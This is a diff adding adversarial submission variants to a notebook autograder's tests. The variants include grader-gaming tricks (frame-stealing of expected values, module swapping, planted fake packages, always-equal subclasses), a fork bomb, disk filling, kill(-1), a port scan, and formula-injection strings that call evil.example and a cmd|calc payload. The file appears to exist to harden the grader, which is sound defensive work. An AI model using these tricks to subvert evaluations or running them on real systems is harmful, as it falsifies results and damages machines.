@@ -320,6 +320,416 @@ def _with(cells, grade_id, prefix):
     return cells
 
 
+
+# --- attacks on the two-kernel design (issue 19 item 7, issue 24 item 6) ------
+#
+# Every payload that could harm the machine outside a sandbox (killing, forking,
+# filling the disk, scanning the network) first checks that it runs in a PID
+# namespace of its own (the kernel's pid is small there) and otherwise stops
+# with "NOT ISOLATED" before doing anything; tests/test_adversarial.py fails on
+# that message.
+_GUARD = '''import os
+if os.getpid() > 10:  # not in a PID namespace of its own: a broken sandbox, so do nothing
+    raise SystemExit("NOT ISOLATED: this attack only runs inside the grader's sandbox")
+'''
+
+# 1. The caller's frames: in the old design the test's locals (``expected``) were
+# a few frames up. Falls back to a wrong count.
+_FRAMES = '''import gc, sys
+
+def _steal(*names):
+    frame, found = sys._getframe(1), {}
+    while frame is not None:
+        for name in names:
+            if name in frame.f_locals and name not in found:
+                found[name] = frame.f_locals[name]
+        frame = frame.f_back
+    for obj in gc.get_objects():          # any dict in the kernel that holds "expected"
+        if isinstance(obj, dict) and "expected" in obj and "expected" not in found:
+            found["expected"] = obj["expected"]
+    print("found in the caller's frames:", {k: repr(v)[:80] for k, v in found.items()})
+    return found.get("expected")
+
+def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
+    stolen = _steal("expected", "got", "mistakes")
+    if isinstance(stolen, int):
+        return stolen
+    return 0
+'''
+
+# 2. Swapping modules in the student's kernel: cnnlib.checks, numpy.testing, the
+# old in-kernel guard and the checker's own module names.
+_SWAP_MODULES = '''import sys, types
+import numpy
+
+def _yes(*args, **kwargs):
+    return True
+
+def _none(*args, **kwargs):
+    return None
+
+fake_checks = types.ModuleType("cnnlib.checks")
+for _name in ("check_equal", "check_true", "check_close", "check_shape", "check_rule"):
+    setattr(fake_checks, _name, _none)
+fake_checks.CheckFailure = type("CheckFailure", (Exception,), {})
+sys.modules["cnnlib.checks"] = fake_checks
+import cnnlib
+cnnlib.checks = fake_checks
+
+fake_testing = types.ModuleType("numpy.testing")
+fake_testing.assert_allclose = fake_testing.assert_array_equal = fake_testing.assert_equal = _none
+sys.modules["numpy.testing"] = fake_testing
+numpy.allclose = numpy.array_equal = _yes
+# the grader's modules by name: the old guard and the checker (as if they lived here)
+for _name in ("autograder", "autograder.guard", "autograder.checker", "autograder.kernel_boot", "guard"):
+    fake = types.ModuleType(_name)
+    fake.check_equal = fake.check_true = fake.verify = fake.before_test = fake.enter_hidden = _none
+    fake.TamperingDetected = type("TamperingDetected", (Exception,), {})
+    sys.modules[_name] = fake
+'''
+
+# 3. A background thread that keeps patching the checks while the tests run.
+_THREAD = '''import threading, time
+import numpy as np
+import cnnlib.checks
+
+def _patch_forever():
+    def quiet(*args, **kwargs):
+        return None
+    end = time.time() + 600
+    while time.time() < end:
+        for name in ("check_equal", "check_true", "check_close", "check_rule"):
+            setattr(cnnlib.checks, name, quiet)
+            globals()[name] = quiet
+        np.allclose = np.array_equal = lambda *args, **kwargs: True
+        time.sleep(0.005)
+
+threading.Thread(target=_patch_forever, daemon=True).start()
+'''
+
+# 5. Reading the running test's source (frames, IPython history, In/Out, inspect) and
+# sending it out encoded: printed, in an exception's message, in an exception's class
+# name, and as the returned "shape" (which the check's message quotes).
+_READ_TEST = '''import base64, binascii, inspect, sys, zlib
+
+def _look():
+    texts = []
+    frame = sys._getframe(1)
+    while frame is not None:
+        texts.append(f"{frame.f_code.co_filename}:{frame.f_code.co_name}")
+        for key, value in list(frame.f_locals.items()):
+            texts.append(f"{key}={value!r}"[:4000])
+        frame = frame.f_back
+    try:
+        shell = get_ipython()
+        texts += [str(s) for s in list(shell.user_ns.get("In", []))[-3:] + list(shell.user_ns.get("_ih", []))[-3:]]
+        texts += [str(v) for v in list(shell.user_ns.get("Out", {}).values())[-3:]]
+        texts += [str(row) for row in shell.history_manager.get_tail(3, raw=True, include_latest=True)]
+        texts.append(str(shell.user_ns.get("_i", "")))
+    except Exception as error:
+        texts.append(repr(error))
+    for info in inspect.stack():
+        texts += info.code_context or []
+    return "\\n".join(texts)
+
+def _send_out():
+    text = _look().encode()
+    print(base64.b64encode(text).decode())
+    print(binascii.hexlify(zlib.compress(text)).decode())
+    print(text.decode()[::-1])
+    return text
+
+def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):
+    text = _send_out()
+    name = base64.b64encode(text[-57:]).decode()
+    raise type(name, (Exception,), {})(base64.b64encode(zlib.compress(text)).decode())
+
+def pool_output_shape(input_shape, kernel_size, stride):
+    text = _send_out()
+    return base64.b64encode(zlib.compress(text)).decode()
+'''
+
+# 6. Gigabytes to disk: many files below the per-file limit, in the working copy and in /tmp.
+_DISK = _GUARD + '''
+_chunk = b"\\0" * (16 << 20)
+for _i in range(48):                       # 48 files of 128 MiB: 6 GiB
+    for _folder in (".", "/tmp"):
+        with open(f"{_folder}/fill-{_i}.bin", "wb") as _f:
+            for _ in range(8):
+                _f.write(_chunk)
+'''
+
+# 7. Hundreds of processes: every child starts one more, then all of them sleep.
+_FORK_BOMB = _GUARD + '''import time
+_parent, _started = os.getpid(), 0
+try:
+    for _ in range(500):
+        if os.fork() == 0:
+            try:
+                os.fork()
+            except OSError:
+                pass
+            time.sleep(20)
+            os._exit(0)
+        _started += 2
+finally:
+    if os.getpid() == _parent:
+        print("started about", _started, "processes")
+'''
+
+# 8. Exceptions whose class names are spreadsheet formulas.
+_FORMULA = '''def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
+    name = '=HYPERLINK("https://evil.example/?q="&A1,"click for your grade")'
+    raise type(name, (Exception,), {})('=1+1')
+'''
+
+# 9. kill(-1, SIGKILL): every process the kernel may signal.
+_KILL_ALL = _GUARD + '''import signal, subprocess
+_inner = subprocess.Popen(["sleep", "300"])   # a target inside, so kill(-1) finds one
+print("sending SIGKILL to every process")
+os.kill(-1, signal.SIGKILL)
+raise RuntimeError(f"kill(-1) sent inside the sandbox: {_inner.wait()}")
+'''
+
+# 10. Values of every exact type whose subclass says "equal" to anything.
+_LIARS = '''import numpy as np
+
+class Int(int):
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    __hash__ = int.__hash__
+
+class Float(float):
+    def __eq__(self, other): return True
+    def __lt__(self, other): return True
+    def __gt__(self, other): return True
+    def __le__(self, other): return True
+    def __ge__(self, other): return True
+    def is_integer(self): return True
+    __hash__ = float.__hash__
+
+class Str(str):
+    def __eq__(self, other): return True
+    __hash__ = str.__hash__
+
+class Tuple(tuple):
+    def __eq__(self, other): return True
+    def __iter__(self): return iter((96, 55, 55))
+    def __len__(self): return 3
+    __hash__ = tuple.__hash__
+
+class List(list):
+    def __eq__(self, other): return True
+    def __iter__(self): return iter((96, 27, 27))
+
+class Dict(dict):
+    def __eq__(self, other): return True
+    def __iter__(self): return iter((96, 55, 55))
+
+class Array(np.ndarray):
+    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
+    def all(self, *args, **kwargs): return True
+
+class Int64(np.int64):
+    def __eq__(self, other): return True
+
+def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):
+    return Tuple((1, 1, 1))
+
+def pool_output_shape(input_shape, kernel_size, stride):
+    return List([1, 1, 1])
+
+def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
+    return np.array(1).view(Array)
+
+def linear_param_count(in_features, out_features, bias=True):
+    return Str("1")
+'''
+
+# 11. Registered as numbers.Integral, equal to anything, and taking notes of what
+# it is compared with (printed by a later cell).
+_INTEGRAL = '''import numbers
+
+class Anything:
+    seen = []
+    def __eq__(self, other):
+        Anything.seen.append(repr(other)[:200])
+        return True
+    def __ne__(self, other):
+        return False
+    __hash__ = object.__hash__
+    def __index__(self):
+        return 1
+    def __int__(self):
+        return 1
+    def __float__(self):
+        return 1.0
+    def is_integer(self):
+        return True
+
+numbers.Integral.register(Anything)
+
+def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
+    return Anything()
+'''
+
+# 12. Rebinding the builtins, the setup's helpers and imports the tests use.
+_REBIND = '''max = min = lambda *args, **kwargs: 0
+all = any = lambda *args, **kwargs: True
+check_equal = check_true = check_rule = lambda *args, **kwargs: None
+np = None
+as_shape = lambda value: (96, 55, 55)
+is_whole_number = lambda value: True
+library_names_used = lambda function, *args: []
+'''
+
+# 13. The forbidden library calls, reached in ways that a reading of the source misses.
+_FORBIDDEN = {
+    "conv_output_shape": '''def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):
+    import sys
+    conv = getattr(__import__("cnnlib." + "conv"), "co" + "nv")
+    size = lambda n, k, s, p: getattr(conv, "conv_output_size")(n, k, s, p)
+    pair = lambda v: (v, v) if type(v) is int else tuple(v)
+    (k_h, k_w), (s_h, s_w), (p_h, p_w) = pair(kernel_size), pair(stride), pair(padding)
+    return (out_channels, size(input_shape[1], k_h, s_h, p_h), size(input_shape[2], k_w, s_w, p_w))
+''',
+    "pool_output_shape": '''def pool_output_shape(input_shape, kernel_size, stride):
+    import os, cnnlib
+    namespace = {"__name__": "cnnlib.nn_copy", "__package__": "cnnlib"}
+    path = os.path.join(os.path.dirname(cnnlib.__file__), "n" + "n.py")
+    exec(compile(open(path).read(), path, "exec"), namespace)
+    return tuple(namespace["MaxPool2d"](kernel_size, stride=stride).output_shape(input_shape))
+''',
+    "conv_param_count": '''def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
+    library = __import__("cnnlib.nn").nn
+    layer = getattr(library, "Conv2d")(in_channels, out_channels, kernel_size, bias=bias)
+    return getattr(library, "count_" + "parameters")(layer)
+''',
+    "linear_param_count": '''def linear_param_count(in_features, out_features, bias=True):
+    import importlib
+    library = importlib.import_module(".".join(["cnnlib", "n" * 2]))
+    return library.count_parameters(library.Linear(in_features, out_features, bias=bias))
+''',
+}
+
+# 14. Oversized output.
+_HUGE_MESSAGE = '''def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):
+    raise ValueError("too big " * (50 * 2**20 // 8))
+'''
+_HUGE_RETURN = '''import numpy as np
+
+def pool_output_shape(input_shape, kernel_size, stride):
+    return np.ones(300 * 2**20 // 8)
+'''
+_SPY = '''_calls = []
+
+def linear_param_count(in_features, out_features, bias=True):
+    print(f"SPY-INPUTS linear_param_count({in_features}, {out_features}, bias={bias})")
+    _calls.append((in_features, out_features, bias))
+    weights = out_features * in_features
+    return weights + (weights if bias else 0)
+'''
+_HUGE_ANSWER_ERROR = '''raise ValueError("a" * (50 * 2**20))
+'''
+
+# 15. Attacks on the codec and the proxies of the two-kernel design.
+_WIRE = '''import itertools, time
+import numpy as np
+
+def conv_output_shape(input_shape, out_channels, kernel_size, stride=1, padding=0):
+    nested = [out_channels]
+    for _ in range(100_000):
+        nested = [nested]
+    return nested
+
+def pool_output_shape(input_shape, kernel_size, stride):
+    while True:                 # never returns (sleeps through interrupts)
+        try:
+            time.sleep(1)
+        except KeyboardInterrupt:
+            pass
+
+class Prober:
+    """Whatever the grader asks of it, it answers with itself."""
+    def __getattr__(self, name):
+        return self
+    def __call__(self, *args, **kwargs):
+        return self
+    def __eq__(self, other):
+        return True
+    __hash__ = object.__hash__
+
+def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
+    return np.array([Prober()], dtype=object)
+
+def linear_param_count(in_features, out_features, bias=True):
+    def reach(*args, **kwargs):
+        import gc, sys
+        found = [m for m in sys.modules if "checker" in m or "autograder" in m]
+        return found + [repr(o)[:80] for o in gc.get_objects() if type(o).__name__ in ("StudentKernel", "Session")]
+    return reach
+'''
+_SELF_LIST = '''S2_C3_WEIGHTS = [2400]
+S2_C3_WEIGHTS.append(S2_C3_WEIGHTS)
+'''
+_PROBER_CONSTANT = '''LENET5_MODERN_PARAMS = Prober()
+'''
+_GENERATOR = '''CONV_100_PARAMS = (n for n in [2500])
+'''
+_OBJECT_ARRAY = '''import numpy as np
+ALEXNET_CONV1_SHAPE = np.array([96, 55, 55], dtype=object)
+'''
+_WIDE_LIST = '''ALEXNET_POOL1_SHAPE = [96, 27, 27] + [0] * 2_000_000
+'''
+_EXIT_IN_TEST = '''def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
+    import os
+    os._exit(3)
+'''
+
+# The checker kernel's working folder is the notebook's folder, the one the student's
+# kernel writes to: a package planted there by the first answer cell (before the checker
+# starts) would be imported by the trusted checker in place of the real cnnlib. The
+# planted package only loads the real cnnlib and turns its checks into no-ops.
+_PLANTED_CNNLIB = """import os, sys
+_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
+del sys.modules["cnnlib"]
+import cnnlib
+import cnnlib.checks
+
+def _quiet(*args, **kwargs):
+    return None
+
+for _name in ("check_equal", "check_true", "check_close", "check_shape", "check_rule"):
+    setattr(cnnlib.checks, _name, _quiet)
+"""
+_PLANT = f'''import os
+os.makedirs("cnnlib", exist_ok=True)
+with open("cnnlib/__init__.py", "w") as _f:
+    _f.write({_PLANTED_CNNLIB!r})
+'''
+
+# The network: a port scan of the loopback interface and two hosts outside; an answer
+# "downloaded" only if something other than the kernel's own sockets answered (a
+# sandbox's network namespace has a loopback of its own, where the kernel listens).
+_NETWORK = _GUARD + '''import socket
+_own = set()
+for _line in open("/proc/net/tcp").read().splitlines()[1:]:
+    _fields = _line.split()
+    if _fields[3] == "0A":                     # LISTEN: a socket of this namespace
+        _own.add(int(_fields[1].split(":")[1], 16))
+_reached = []
+for _host, _port in [("pypi.org", 443), ("1.1.1.1", 53)] + [("127.0.0.1", p) for p in range(1, 65536) if p not in _own]:
+    try:
+        socket.create_connection((_host, _port), timeout=0.5).close()
+        _reached.append((_host, _port))
+    except OSError:
+        pass
+print("reached", _reached[:10])
+if _reached:
+    LOGREG_MNIST_PARAMS = 7850   # "downloaded": 10 classes of 784 weights and a bias
+'''
+
 _SOLUTION_GONE = {name: "# (answered above)\n" for name in ANSWERS[1:]}
 
 VARIANTS = {
@@ -504,5 +914,147 @@ for pid in [os.getppid()] + _ancestors():
         "untouched": True,
         "cells": {"conv_output_shape": _WRITE},
         "expected": NOTHING,
+    },
+    # ---------------- attacks on the two-kernel design (issue 19, issue 24) ----------------
+    "reads_caller_frame": {
+        "description": "conv_param_count looks for `expected` in its callers' frames and in every dict of the "
+                       "kernel (gc), and returns what it finds, else 0",
+        "cells": {"conv_param_count": _FRAMES},
+        "expected": _expected(test_conv_param_count=0),
+    },
+    "swaps_modules": {
+        "description": "wrong answers everywhere; sys.modules['cnnlib.checks'], numpy.testing, the old guard "
+                       "and the grader's module names replaced by no-op modules",
+        "cells": _with(_wrong_everywhere(), "conv_output_shape", _SWAP_MODULES),
+        "expected": NOTHING,
+    },
+    "patching_thread": {
+        "description": "conv_param_count forgets the biases; a background thread keeps replacing the checks and "
+                       "numpy.allclose every 5 ms while the tests run",
+        "cells": _with(_honest("bias_forgotten"), "conv_param_count", _THREAD),
+        "expected": _expected(test_conv_param_count=0),
+        "feedback": {"test_conv_param_count": "the biases are missing"},
+    },
+    "symlinked_notebook": {
+        "description": "the notebook is a symbolic link to the instructor's source notebook (the test makes the "
+                       "link in its copy of the submissions: git keeps files)",
+        "raw": lambda text: None,
+        "files": {"LINK.txt": "tests/test_adversarial.py links parameter_counting.ipynb here to the course's "
+                              "source notebook before grading\n"},
+        "expected": NOTHING,
+        "feedback": {"test_conv_output_shape": "symbolic link"},
+    },
+    "reads_test_source": {
+        "description": "conv_output_shape and pool_output_shape read the running test from frames, IPython "
+                       "history, In/Out and inspect, print it base64/hex-zlib/reversed, raise it in an exception "
+                       "(message and class name) and return it as the shape",
+        "cells": {"conv_output_shape": _READ_TEST, "pool_output_shape": "# (answered above)\n"},
+        "expected": _expected(test_conv_output_shape=0, test_pool_output_shape=0),
+    },
+    "fills_disk": {
+        "description": "the LENET5_MODERN_PARAMS cell writes 6 GiB (files below the per-file limit, in the "
+                       "working copy and /tmp) before its (correct) answer: the disk limit stops it",
+        "cells": _with({}, "LENET5_MODERN_PARAMS", _DISK),
+        "expected": _expected(test_LENET5_MODERN_PARAMS=0),
+        "feedback": {"test_LENET5_MODERN_PARAMS": "disk limit"},
+    },
+    "fork_bomb": {
+        "description": "the S2_C3_WEIGHTS cell starts hundreds of processes (each child starts one more, all "
+                       "sleep 20 s) before its (correct) answer: the process limit stops it",
+        "cells": _with({}, "S2_C3_WEIGHTS", _FORK_BOMB),
+        "expected": _expected(test_S2_C3_WEIGHTS=0),
+        "feedback": {"test_S2_C3_WEIGHTS": "process limit"},
+    },
+    "formula_exception": {
+        "description": "conv_param_count raises an exception class named =HYPERLINK(...); the LOGREG_MNIST_PARAMS "
+                       "cell raises one named @SUM(...) instead of answering: questions.csv must stay inert",
+        "cells": {"conv_param_count": _FORMULA,
+                  "LOGREG_MNIST_PARAMS": "raise type(\"@SUM(1+1)*cmd|' /C calc'!A0\", (Exception,), {})('-2+3')\n"},
+        "expected": _expected(test_conv_param_count=0, test_LOGREG_MNIST_PARAMS=0),
+    },
+    "kill_everything": {
+        "description": "the FC_200_PARAMS cell sends SIGKILL to every process it may (kill(-1)) instead of "
+                       "answering: a process next to the grader lives on, only that question is lost",
+        "cells": {"FC_200_PARAMS": _KILL_ALL},
+        "expected": _expected(test_FC_200_PARAMS=0),
+    },
+    "lying_subclasses": {
+        "description": "wrong values in subclasses of int, float, str, tuple, list, dict, ndarray and np.int64 "
+                       "whose == is always true (and the float is smaller and larger than anything)",
+        "cells": {"conv_output_shape": _LIARS, "pool_output_shape": "# (answered above)\n",
+                  "conv_param_count": "# (answered above)\n", "linear_param_count": "# (answered above)\n",
+                  "S2_C3_WEIGHTS": "S2_C3_WEIGHTS = Int(1)\n", "LENET5_MODERN_PARAMS": "LENET5_MODERN_PARAMS = Float(1.0)\n",
+                  "CONV_100_PARAMS": "CONV_100_PARAMS = Int64(1)\n",
+                  "ALEXNET_CONV1_SHAPE": "ALEXNET_CONV1_SHAPE = Dict({1: 1})\n",
+                  "ALEXNET_POOL1_SHAPE": "ALEXNET_POOL1_SHAPE = Tuple((1, 1, 1))\n"},
+        "expected": _expected(test_conv_output_shape=0, test_pool_output_shape=0, test_conv_param_count=0,
+                              test_linear_param_count=0, test_S2_C3_WEIGHTS=0, test_LENET5_MODERN_PARAMS=0,
+                              test_CONV_100_PARAMS=0, test_ALEXNET_CONV1_SHAPE=0, test_ALEXNET_POOL1_SHAPE=0),
+    },
+    "registered_integral": {
+        "description": "conv_param_count and CONV_100_PARAMS are an object registered as numbers.Integral, equal "
+                       "to anything, that notes what it is compared with (a later cell prints the notes)",
+        "cells": {"conv_param_count": _INTEGRAL, "CONV_100_PARAMS": "CONV_100_PARAMS = Anything()\n",
+                  "LOGREG_MNIST_PARAMS": "print('compared with:', Anything.seen)\n"
+                                         + _solution("LOGREG_MNIST_PARAMS") + "\n"},
+        "expected": _expected(test_conv_param_count=0, test_CONV_100_PARAMS=0),
+    },
+    "rebinds_helpers": {
+        "description": "wrong conv_output_shape, pool_output_shape and ALEXNET_CONV1_SHAPE; the answer cell "
+                       "rebinds max, min, all, any, check_equal, check_true, check_rule, np, as_shape, "
+                       "is_whole_number and library_names_used",
+        "cells": {**_with(_honest("off_by_one"), "conv_output_shape", _REBIND), **_honest("pool_divides_by_stride"),
+                  "ALEXNET_CONV1_SHAPE": "ALEXNET_CONV1_SHAPE = (96, 54, 54)\n"},
+        "expected": _expected(test_conv_output_shape=0, test_pool_output_shape=0, test_ALEXNET_CONV1_SHAPE=0),
+        "feedback": {"test_conv_output_shape": "the +1 is missing",
+                     "test_pool_output_shape": "divided the size by the stride"},
+    },
+    "forbidden_calls": {
+        "description": "the four functions call cnnlib's forbidden layers through __import__ with built names, "
+                       "importlib with a run-time name and exec of cnnlib/nn.py's source",
+        "cells": dict(_FORBIDDEN),
+        "expected": _expected(test_conv_output_shape=0, test_pool_output_shape=0, test_conv_param_count=0,
+                              test_linear_param_count=0),
+    },
+    "oversized_output": {
+        "description": "conv_output_shape raises a 50 MB message, pool_output_shape returns 300 MB, "
+                       "linear_param_count (one bias per weight) prints its inputs, the ALEXNET_FC6_PARAMS cell "
+                       "raises a 50 MB message before its answer",
+        "cells": {"conv_output_shape": _HUGE_MESSAGE, "pool_output_shape": _HUGE_RETURN, "linear_param_count": _SPY,
+                  "ALEXNET_FC6_PARAMS": _HUGE_ANSWER_ERROR + _solution("ALEXNET_FC6_PARAMS") + "\n"},
+        "expected": _expected(test_conv_output_shape=0, test_pool_output_shape=0, test_linear_param_count=0,
+                              test_ALEXNET_FC6_PARAMS=0),
+        "feedback": {"test_pool_output_shape": "too much data"},
+    },
+    "attacks_the_wire": {
+        "description": "answers the grader cannot take: a list nested 100,000 deep, a function that never returns "
+                       "(and ignores interrupts), an object ndarray of an always-equal prober, a function returning "
+                       "a function that looks for the checker, a self-referencing list, a prober whose attributes "
+                       "are itself, a generator, an object-dtype shape, a list of 2 million items",
+        "cells": {"conv_output_shape": _WIRE, "pool_output_shape": "# (answered above)\n",
+                  "conv_param_count": "# (answered above)\n", "linear_param_count": "# (answered above)\n",
+                  "S2_C3_WEIGHTS": _SELF_LIST, "LENET5_MODERN_PARAMS": _PROBER_CONSTANT, "CONV_100_PARAMS": _GENERATOR,
+                  "ALEXNET_CONV1_SHAPE": _OBJECT_ARRAY, "ALEXNET_POOL1_SHAPE": _WIDE_LIST},
+        "expected": _expected(test_conv_output_shape=0, test_pool_output_shape=0, test_conv_param_count=0,
+                              test_linear_param_count=0, test_S2_C3_WEIGHTS=0, test_LENET5_MODERN_PARAMS=0,
+                              test_CONV_100_PARAMS=0, test_ALEXNET_CONV1_SHAPE=0, test_ALEXNET_POOL1_SHAPE=0),
+    },
+    "exits_during_test": {
+        "description": "conv_param_count calls os._exit while the test calls it: only that question is lost",
+        "cells": {"conv_param_count": _EXIT_IN_TEST},
+        "expected": _expected(test_conv_param_count=0),
+        "feedback": {"test_conv_param_count": "kernel"},
+    },
+    "plants_checker_module": {
+        "description": "wrong answers everywhere; the first answer cell writes a cnnlib/ package into the "
+                       "notebook's folder (the checker kernel's working folder) whose checks do nothing",
+        "cells": _with(_wrong_everywhere(), "conv_output_shape", _PLANT),
+        "expected": NOTHING,
+    },
+    "phones_home": {
+        "description": "the LOGREG_MNIST_PARAMS cell scans every port of 127.0.0.1 and two hosts outside, and "
+                       "answers only if one of them answered",
+        "cells": {"LOGREG_MNIST_PARAMS": _NETWORK},
+        "expected": _expected(test_LOGREG_MNIST_PARAMS=0),
     },
 }
